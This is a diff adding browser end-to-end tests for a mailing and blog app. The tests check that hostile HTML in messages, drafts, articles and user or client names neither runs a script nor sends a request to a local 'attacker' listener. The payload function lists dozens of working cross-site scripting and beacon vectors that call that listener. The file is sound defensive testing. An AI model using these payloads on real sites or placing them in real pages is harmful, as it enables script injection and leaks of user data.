@@ -1,0 +1,230 @@
+"""Hostile HTML in letters, articles and names, in a real browser: no script runs, and no request leaves."""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import Dialog, Request
+
+from skymailing.models import MessageFormat, Role
+from tests.e2e.conftest import OpenWindow
+from tests.e2e.site import Site
+from tests.e2e.window import Window
+from tests.factories import ArticleFactory, ClientFactory, MailingFactory, MessageFactory, UserFactory
+
+SETTLE = 700  # milliseconds in which whatever was going to happen has happened
+
+
+class Listener(ThreadingHTTPServer):
+    """The attacker's server, on this machine: notes every request that reaches it."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.requests: list[str] = []
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_port}"
+
+
+class Handler(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        assert isinstance(self.server, Listener)
+        self.server.requests.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    def do_POST(self) -> None:
+        self.do_GET()
+
+    def log_message(self, *_args: object) -> None:
+        """Nothing: the list is what counts."""
+
+
+@pytest.fixture
+def attacker() -> Iterator[Listener]:
+    server = Listener()
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+def payload(url: str) -> str:
+    """Return every way that we know to run a script or to make a browser ask for something."""
+    run = f"window.pwned && pwned(); new Image().src = '{url}/script'; top.document.title = 'pwned'"
+    quoted = run.replace('"', "&quot;")
+    return "\n".join(
+        (
+            f"<script>{run}</script>",
+            f'<script src="{url}/src.js"></script><script type="module" src="{url}/module.js"></script>',
+            f'<img src="x" onerror="{quoted}"><img src="{url}/img"><img srcset="{url}/srcset 2x">',
+            f'<svg onload="{quoted}"><script>{run}</script><image href="{url}/svg-image"/></svg>',
+            f'<svg><use href="{url}/use.svg#x"/><animate onbegin="{quoted}" dur="1s"/></svg>',
+            f'<iframe src="javascript:{quoted}"></iframe><iframe src="{url}/iframe"></iframe>',
+            f'<iframe srcdoc="&lt;script&gt;{quoted}&lt;/script&gt;"></iframe>',
+            f'<object data="{url}/object"></object><embed src="{url}/embed"><applet code="{url}/applet">',
+            f'<video src="{url}/video" poster="{url}/poster" autoplay onplay="{quoted}"></video>',
+            f'<audio src="{url}/audio" autoplay></audio><source src="{url}/source"><track src="{url}/track">',
+            f'<input autofocus onfocus="{quoted}"><select autofocus onfocus="{quoted}"></select>',
+            f'<details open ontoggle="{quoted}"></details><body onload="{quoted}" background="{url}/body">',
+            f'<meta http-equiv="refresh" content="0; url={url}/refresh"><base href="{url}/base/">',
+            f'<link rel="stylesheet" href="{url}/sheet.css"><link rel="prefetch" href="{url}/prefetch">',
+            f'<link rel="preload" as="image" href="{url}/preload"><link rel="icon" href="{url}/icon">',
+            f'<style>@import "{url}/import.css"; * {{ background: url({url}/css) }}</style>',
+            f"<style>@font-face {{ font-family: x; src: url({url}/font) }} * {{ font-family: x }}</style>",
+            f'<p style="background: url({url}/inline); list-style-image: url({url}/list)">text</p>',
+            f'<form id="f" action="{url}/form"><input name="a"></form><button form="f">send</button>',
+            f'<a href="{url}/target" ping="{url}/ping">a link</a><a href="javascript:{quoted}">another</a>',
+            f'<math><mtext></form><form><mglyph><style></math><img src onerror="{quoted}">',
+            f"<noscript><p title=\"</noscript><img src=x onerror='{quoted}'>\"></noscript>",
+            f'<template><script>{run}</script></template><x-y onanimationstart="{quoted}"></x-y>',
+            f'<table background="{url}/table"><td background="{url}/cell">cell</td></table>',
+            f'<a href="java&#9;script:{quoted}">third</a>',
+            f'<a href="data:text/html,<script>{run}</script>">fourth</a>',
+            "<!--><script>pwned()</script>--><![CDATA[<script>pwned()</script>]]>",
+        )
+    )
+
+
+def test_the_attack_works_where_nothing_stops_it(attacker: Listener, open_window: OpenWindow) -> None:
+    window, ran = open_window(), list[str]()
+    window.context.expose_binding("pwned", lambda _source: ran.append("a script ran"))
+    window.page.set_content(payload(attacker.url).replace("http-equiv", "x"))  # stay on this page
+    window.page.wait_for_timeout(SETTLE)
+    window.complaints.clear()
+    assert ran
+    assert {"/img", "/script", "/src.js", "/css", "/iframe", "/object"} <= set(attacker.requests)
+
+
+@pytest.fixture
+def watch(attacker: Listener, open_window: OpenWindow, site: Site) -> Iterator[object]:
+    """Return a function that opens a window in which nothing may run, ask, or leave for elsewhere."""
+    seen: list[str] = []
+    windows: list[Window] = []
+
+    def do() -> Window:
+        window = open_window()
+        window.context.expose_binding("pwned", lambda _source: seen.append("a script ran"))
+        window.page.on("dialog", lambda dialog: note_dialog(dialog))
+        window.page.on("request", lambda request: note_request(request))
+        windows.append(window)
+        return window
+
+    def note_dialog(dialog: Dialog) -> None:
+        seen.append(f"a dialog: {dialog.message}")
+        dialog.dismiss()
+
+    def note_request(request: Request) -> None:
+        if not request.url.startswith((site.url, "data:", "about:")) and request.failure is None:
+            asked.append(request)
+
+    asked: list[Request] = []
+    yield do
+    for window in windows:
+        window.page.wait_for_timeout(SETTLE)
+        assert window.page.title() != "pwned"
+        assert window.page.url.startswith(site.url)
+        # What the browser refused to do, it complains of; that is the point here.
+        window.complaints.clear()
+    assert seen == []
+    assert attacker.requests == []
+    assert [request.url for request in asked if request.failure is None] == []
+
+
+def test_a_letters_preview_runs_nothing(site: Site, watch, attacker: Listener) -> None:
+    hostile = payload(attacker.url)
+    with site.adding():
+        owner = UserFactory.create()
+        client = ClientFactory.create(
+            owner=owner, full_name=hostile[:200], attributes={"city": hostile[:2000]}
+        )
+        messages = [
+            MessageFactory.create(owner=owner, format=kind, subject="<img src=x onerror=pwned()>", body=body)
+            for kind, body in (
+                (MessageFormat.HTML, hostile),
+                (MessageFormat.MARKDOWN, f"{hostile}\n\n[link](javascript:pwned())"),
+                (MessageFormat.TEXT, hostile),
+                (MessageFormat.HTML, "<p>{{ name }} {{ client.city }}</p>"),
+            )
+        ]
+    window = watch()
+    window.sign_in(owner.email)
+    for message in messages:
+        for path in (f"/messages/{message.id}?client={client.id}", f"/messages/{message.id}/preview"):
+            window.page.goto(path)
+            window.page.wait_for_timeout(SETTLE)
+
+
+def test_a_draft_runs_nothing_while_it_is_typed(site: Site, watch, attacker: Listener) -> None:
+    with site.adding():
+        owner = UserFactory.create()
+    window = watch()
+    window.sign_in(owner.email)
+    window.page.goto("/messages/new")
+    window.page.locator("[name=format][value=html], select[name=format]").first.wait_for()
+    window.page.evaluate(
+        """body => {
+            const form = document.querySelector("main form[method=post]");
+            form.querySelector("[name=subject]").value = "Hello";
+            form.querySelector("[name=body]").value = body;
+            const format = form.querySelector("[name=format][value=html]");
+            if (format) format.checked = true; else form.querySelector("[name=format]").value = "html";
+        }""",
+        payload(attacker.url),
+    )
+    window.main.get_by_role("button", name="Preview").first.click()
+    window.page.wait_for_timeout(SETTLE)
+    assert any("draft" in frame.url for frame in window.page.frames), "the preview was really asked for"
+
+
+def test_an_article_runs_nothing_for_readers_or_its_author(site: Site, watch, attacker: Listener) -> None:
+    hostile = payload(attacker.url)
+    with site.adding():
+        author = UserFactory.create(role=Role.CONTENT, name='<img src=x onerror="pwned()">')
+        articles = [
+            ArticleFactory.create(
+                author=author, format=kind, title=f"<script>pwned()</script> {kind}", body=hostile
+            )
+            for kind in MessageFormat
+        ]
+    reader = watch()
+    for path in ("/", "/blog/", *(f"/blog/{article.slug}" for article in articles)):
+        reader.page.goto(path)
+        reader.page.wait_for_timeout(SETTLE)
+    writer = watch()
+    writer.sign_in(author.email)
+    writer.page.goto(f"/manager/articles/{articles[1].id}/edit")
+    writer.main.get_by_role("button", name="Preview").click()
+    writer.page.wait_for_timeout(SETTLE)
+
+
+def test_names_run_nothing_wherever_they_are_listed(site: Site, watch, attacker: Listener) -> None:
+    hostile = f"\"'><img src={attacker.url}/name onerror=pwned()><script>pwned()</script>"
+    with site.adding():
+        owner = UserFactory.create(name=hostile[:200])
+        ClientFactory.create(
+            owner=owner, full_name=hostile, comment=hostile, attributes={hostile[:50]: hostile}
+        )
+        mailing = MailingFactory.create(owner=owner, name=hostile[:200])
+        manager = UserFactory.create(role=Role.ADMIN)
+    window = watch()
+    window.sign_in(owner.email)
+    for path in (
+        "/",
+        "/clients/",
+        "/mailings/",
+        f"/mailings/{mailing.id}",
+        "/auth/profile",
+        "/reports/",
+        "/logs/",
+    ):
+        window.page.goto(path)
+    window.page.goto(f"/clients/?q={hostile}")
+    panel = watch()
+    panel.sign_in(manager.email)
+    for path in ("/manager/mailings/", "/manager/users/", f"/manager/users/{owner.id}/"):
+        panel.page.goto(path)
